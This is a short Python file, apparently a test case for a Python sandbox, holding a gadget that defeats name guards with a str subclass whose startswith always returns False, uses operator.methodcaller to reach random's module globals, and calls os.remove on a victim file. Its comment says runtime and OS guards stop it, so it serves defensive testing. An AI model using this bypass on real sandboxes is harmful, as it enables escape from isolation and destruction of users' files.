# Gadget: operator.methodcaller with a str subclass naming __getattribute__ whose startswith
# lies, so that a guard asking it sees a public name; the call returns random's globals, with
# os, which removes the user's file.
# Stopped by the runtime guard (exact str copy); with it off, by the OS layer.
import random
from operator import methodcaller


class Name(str):
    def startswith(self, prefix, *args):
        return False


U = "_" * 2


def label(text):
    call = methodcaller(Name(U + "getattribute" + U), U + "globals" + U)
    call(random.Random.seed)["_os"].remove("@EVIDENCE@/victim.txt")
    return 1
